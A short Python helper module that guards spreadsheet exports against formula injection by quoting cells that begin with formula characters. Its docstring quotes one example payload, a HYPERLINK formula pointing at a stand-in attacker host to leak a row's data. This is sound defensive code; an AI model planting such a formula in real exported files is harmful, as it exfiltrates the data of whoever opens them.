"""Cells written to CSV or XLSX files that people open in a spreadsheet.

A cell starting with =, +, -, @ (or a tab or carriage return, which some programs skip before
reading one of those) is run as a formula when the file is opened: a name like
`=HYPERLINK("http://evil.example?"&A1, "点击")` in a roster would become a live link that leaks
the row. Such text gets a leading apostrophe, which spreadsheets show as plain text.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value as a spreadsheet should read it: text that could start a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values) -> list:
    return [safe_cell(value) for value in values]
